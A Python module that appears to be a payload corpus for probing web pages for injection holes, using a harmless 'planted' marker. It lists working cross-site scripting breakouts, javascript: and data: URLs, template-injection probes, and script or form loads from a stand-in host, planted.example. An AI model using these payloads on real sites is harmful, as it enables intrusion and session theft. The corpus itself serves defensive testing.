"""What somebody would write to have a page of a node do something: markup, attributes, addresses, templates, directions, controls.

Everything that a payload would bring into being if it worked says "planted" (`MARK`): elements, attributes, the function that scripts call.
So a page that holds any of it shows it, and a browser that runs any of it says so.
"""

from __future__ import annotations

MARK = "planted"
PRODUCT = "800701"
"""What `913*877` comes to where a template, or a script, works it out."""

BREAKOUT = (
    "'\"></title></textarea></script></style><!--><img planted src=x onerror=planted()><x-planted>{{913*877}}"
)
"""Out of any attribute, element or comment at once; short enough to be shown whole where lines are cut."""

ADDRESS = "javascript:planted()//%0aplanted()"
"""An address that runs; alone, since an address has to begin with it."""

CORPUS = (
    # elements that run or load something by themselves
    "<script>planted()</script>",
    "<script src=//planted.example/x></script>",
    "<img planted src=x onerror=planted()>",
    "<svg planted onload=planted()><script>planted()</script><a xlink:href='javascript:planted()'>x</a></svg>",
    "<math planted><mtext><mglyph><style><img planted src=x onerror=planted()></style></mglyph></mtext></math>",
    "<iframe planted srcdoc='<script>parent.planted()</script>'></iframe>",
    "<object planted data='data:text/html,<script>planted()</script>'></object><embed planted src=//planted.example>",
    "<details planted open ontoggle=planted()><summary>x</summary></details>",
    "<input planted autofocus onfocus=planted()><video planted><source onerror=planted()></video>",
    "<template planted><slot onslotchange=planted()></slot></template><portal planted src=//planted.example>",
    # what changes the page as a whole
    "<base planted href=//planted.example/><meta planted http-equiv=refresh content='0;url=//planted.example'>",
    "<link planted rel=stylesheet href=//planted.example><style planted>*{background:url(//planted.example)}</style>",
    "<form planted action=//planted.example><button planted formaction=javascript:planted()>x</button></form>",
    # out of attributes, by each quote and by none
    '" planted onpointerover="planted()" x="',
    "' planted onpointerover='planted()' x='",
    " planted onpointerover=planted() x=",
    "` planted onpointerover=planted() `",
    '"><x-planted a="',
    "x' style='background:url(//planted.example)' planted='",
    '" hx-get="//planted.example" hx-trigger="load" hx-on:load="planted()" planted="',
    # out of scripts, of JSON in scripts, of styles and comments
    "</script><script>planted()</script>",
    '"}]};planted();//\\u003c/script>',
    "\\u003cimg planted src=x onerror=planted()\\u003e",
    "'-planted()-'",
    "${planted()}`${913*877}`",
    "*/ planted() /*",
    "--!><img planted src=x onerror=planted()><!--",
    "]]><x-planted/><![CDATA[",
    "}*{background:url(//planted.example)}@import '//planted.example';",
    # addresses
    "JaVaScRiPt:planted()",
    "java\tscript\n:planted()",
    "data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCk8L3NjcmlwdD4=",
    "vbscript:planted()",
    "//planted.example/",
    "\\\\planted.example\\",
    "https:planted.example",
    "../../sign-out?planted",
    # what templates of several kinds would work out
    "{{913*877}}{% for planted in x %}{% endfor %}",
    "{{ self.__init__.__globals__ }}{{ ''.__class__.__mro__ }}",
    "<%= 913*877 %>#{913*877}${{913*877}}",
    "%(planted)s %s {planted} {0}",
    "[planted](javascript:planted()) ![planted](//planted.example/x.png)",
    # entities, also twice, and bytes that parsers have tripped over
    "&lt;img planted src=x onerror=planted()&gt;",
    "&amp;lt;x-planted&amp;gt;",
    "&#x3c;x-planted&#x3e;&colon;&NewLine;",
    "<\x00script>planted()</\x00script>",
    "<img\x0cplanted\x0bsrc=x\x0conerror=planted()>",
    "\ufeff<x-planted>\u2028\u2029\x85\x7f\x1b[31m\x9b31m",
    "\uff1cscript\uff1eplanted()\uff1c/script\uff1eʺ onload=planted()",
    "<a planted href='javascript&#58;planted()'>x",
    # directions that would turn what stands beside it
    "\u202ederitnalp\u202d\u2066\u2067 TLP:CLEAR",
    "\u061c\u200f\u200e\u2069\u2069\u202c\u202c",
    "planted" + "\u0300" * 200 + "\U000e0041\u200b\u180e",
)
